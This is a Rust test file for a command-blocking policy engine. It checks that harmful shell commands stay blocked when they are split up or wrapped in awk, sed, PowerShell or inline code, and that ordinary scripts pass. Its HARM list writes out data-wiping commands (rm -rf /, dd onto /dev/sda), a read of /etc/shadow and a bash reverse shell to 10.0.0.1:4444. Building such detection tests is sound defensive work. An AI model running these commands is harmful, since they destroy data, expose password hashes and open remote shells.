//! Harm written in another language, in that language's own ways to build and call things, is at
//! least asked about; ordinary work in the same languages is allowed.
//!
//! `{s}` in a template is the harmful command as a string of the language, `{a}` and `{b}` its two
//! halves, `{c}` the command itself, `{v}` its words as a list of strings.

use countersign_core::example::{example_context, judge_example};
use countersign_core::{Policy, Verdict};

#[path = "hidden/awk.rs"]
mod awk;
#[path = "hidden/code.rs"]
mod code;
#[path = "hidden/inline.rs"]
mod inline;
#[path = "hidden/powershell.rs"]
mod powershell;
#[path = "hidden/sed.rs"]
mod sed;

/// Commands that are blocked when they are written out.
const HARM: &[&str] = &[
    "rm -rf /",
    "rm -rf ~",
    "dd if=/dev/zero of=/dev/sda",
    "cat /etc/shadow",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
];

fn verdict(text: &str) -> Verdict {
    judge_example(text, &Policy::default(), &example_context()).verdict
}

/// A string between double quotes.
fn string(text: &str) -> String {
    format!("\"{text}\"")
}

/// Puts a harmful command into a template.
fn hidden(template: &str, harm: &str) -> String {
    let (first, second) = harm.split_at(harm.len() / 2);
    let words: Vec<String> = harm.split(' ').map(string).collect();
    template
        .replace("{s}", &string(harm))
        .replace("{a}", &string(first))
        .replace("{b}", &string(second))
        .replace("{v}", &words.join(", "))
        .replace("{c}", harm)
}

/// Judges every template with every harm in it, and lists all that are allowed.
fn assert_stopped(templates: &[&str], least: Verdict) {
    let passed: Vec<String> = templates
        .iter()
        .flat_map(|template| HARM.iter().map(|harm| hidden(template, harm)))
        .filter(|script| verdict(script) < least)
        .collect();
    assert!(passed.is_empty(), "not stopped:\n{}", passed.join("\n"));
}

/// Judges ordinary work, and lists all that is stopped.
fn assert_passes(scripts: &[&str]) {
    let stopped: Vec<&str> =
        scripts.iter().copied().filter(|script| verdict(script) > Verdict::Warn).collect();
    assert!(stopped.is_empty(), "stopped:\n{}", stopped.join("\n"));
}
